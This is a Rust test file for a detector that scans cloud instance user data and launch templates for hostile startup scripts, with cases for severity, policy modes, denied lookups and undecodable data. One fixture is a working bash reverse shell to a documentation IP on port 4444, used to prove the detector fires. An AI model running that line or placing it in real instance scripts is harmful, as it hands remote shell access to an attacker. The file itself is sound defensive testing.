use super::*;
use crate::activity::{TemplateRef, UserDataChange};
use crate::detection::testing::*;
use crate::lookup::{Fact, FactValue};
use crate::policy::Policy;

const SHELL: &str = "#!/bin/bash\nbash -i >& /dev/tcp/198.51.100.9/4444 0>&1\n";
const HONEST: &str = "#!/bin/bash\ndnf install -y nginx\nsystemctl enable --now nginx\n";

fn of(of: UserDataOf, fact: Fact) -> Given {
    Given::none().fact(FactKey::UserData { scope: scope(REGION), of }, fact)
}

fn instance(text: &str) -> Given {
    let bytes = FactValue::UserData(text.as_bytes().to_vec());
    of(UserDataOf::Instance(INSTANCE.to_owned()), Fact::Known(bytes))
}

fn judged(given: &Given, activity: &Activity, yaml: &str) -> Verdict {
    given.judge(&DETECTION, activity, &policy(yaml))
}

#[test]
fn a_reverse_shell_fires_and_is_critical() {
    let found = matched(judged(&instance(SHELL), &launched(launch(AMI)), ""));
    assert_eq!(found.severity, Some(Severity::Critical));
    assert!(found.summary.contains(INSTANCE), "{}", found.summary);
    assert!(found.evidence["signals"].to_string().contains("/dev/tcp"), "the line is quoted");
    assert!(matches!(found.subject, Subject::MachineImage { ref image, .. } if image == AMI));
}

#[test]
fn an_ordinary_set_up_passes_as_clean() {
    assert!(passed(judged(&instance(HONEST), &launched(launch(AMI)), "")).contains("clean"));
}

#[test]
fn no_user_data_is_said_as_such() {
    assert!(passed(judged(&instance(""), &launched(launch(AMI)), "")).contains("none"));
}

#[test]
fn a_denied_look_up_is_not_taken_for_clean() {
    let given = of(UserDataOf::Instance(INSTANCE.to_owned()), denied());
    assert_eq!(cannot_tell(judged(&given, &launched(launch(AMI)), "")).code, "user-data-denied");
}

#[test]
fn a_terminated_instance_leaves_its_templates_exact_version() {
    let template = TemplateRef { id: Some("lt-0abc".to_owned()), name: None, version: Some("7".to_owned()) };
    let started = Launch { template: Some(template.clone()), ..launch(AMI) };
    let bytes = Fact::Known(FactValue::UserData(SHELL.as_bytes().to_vec()));
    let scope = scope(REGION);
    let given = of(UserDataOf::Instance(INSTANCE.to_owned()), Fact::Absent)
        .fact(FactKey::UserData { scope, of: UserDataOf::Template(template) }, bytes);
    let found = matched(judged(&given, &launched(started), ""));
    assert!(found.summary.contains("lt-0abc:7"), "{}", found.summary);
}

#[test]
fn user_data_in_the_call_goes_before_the_templates() {
    let template = TemplateRef { id: Some("lt-0abc".to_owned()), name: None, version: Some("7".to_owned()) };
    let started = Launch { template: Some(template), user_data: true, ..launch(AMI) };
    let given = of(UserDataOf::Instance(INSTANCE.to_owned()), Fact::Absent);
    assert_eq!(cannot_tell(judged(&given, &launched(started), "")).code, "user-data-gone");
}

#[test]
fn a_launch_asks_once_whatever_the_number_of_instances() {
    let mut started = launch(AMI);
    started.instances = (0..50)
        .map(|number| crate::activity::Instance { id: format!("i-{number:017x}"), ..Default::default() })
        .collect();
    assert_eq!(needed(judged(&Given::none(), &launched(started), "")).len(), 1);
}

#[test]
fn the_mode_decides() {
    let activity = launched(launch(AMI));
    not_applicable(judged(&instance(SHELL), &activity, "user_data: {inspection: 'off'}"));
    let strict = matched(judged(&instance(HONEST), &activity, "user_data: {inspection: strict}"));
    assert_eq!(strict.severity, Some(Severity::Medium));
    let settings = "#cloud-config\nhostname: web-1\n";
    passed(judged(&instance(settings), &activity, "user_data: {inspection: strict}"));
}

#[test]
fn a_rewritten_user_data_is_read_as_it_is_now() {
    let change = UserDataChange { instance: INSTANCE.to_owned(), failed: None };
    let found = matched(judged(&instance(SHELL), &activity(Action::UserDataChanged(change)), ""));
    assert_eq!(found.subject, Subject::Runtime { place: INSTANCE.to_owned() });
}

#[test]
fn a_launch_template_version_is_read_where_it_is_written() {
    let template = TemplateRef { id: Some("lt-0abc".to_owned()), name: None, version: Some("2".to_owned()) };
    let change = TemplateChange {
        kind: TemplateKind::LaunchTemplate,
        template: template.clone(),
        image: ImageRef::Unknown,
        user_data: false,
        failed: None,
    };
    let bytes = Fact::Known(FactValue::UserData(SHELL.as_bytes().to_vec()));
    let given = of(UserDataOf::Template(template), bytes);
    let found = matched(judged(&given, &activity(Action::LaunchTemplateChanged(change)), ""));
    assert_eq!(found.subject, Subject::Template { template: "lt-0abc:2".to_owned() });
}

#[test]
fn what_cannot_be_decoded_cannot_be_told() {
    let broken = [0x1f, 0x8b, 0x08, 0x00, 0xff, 0xff];
    let bytes = Fact::Known(FactValue::UserData(broken.to_vec()));
    let given = of(UserDataOf::Instance(INSTANCE.to_owned()), bytes);
    let reason = cannot_tell(given.judge(&DETECTION, &launched(launch(AMI)), &Policy::default()));
    assert_eq!(reason.code, "user-data-undecodable");
}

#[test]
fn user_data_that_is_too_much_work_is_told_and_says_so() {
    let worn = format!("#!/bin/bash\n{}\n", ":;".repeat(20_000));
    let found = matched(judged(&instance(&worn), &launched(launch(AMI)), ""));
    assert_eq!(found.severity, Some(Severity::High));
    let reasons: Vec<String> = found.not_inspected.iter().map(|reason| reason.code.to_string()).collect();
    assert_eq!(reasons, ["user-data-too-much-work"]);
}
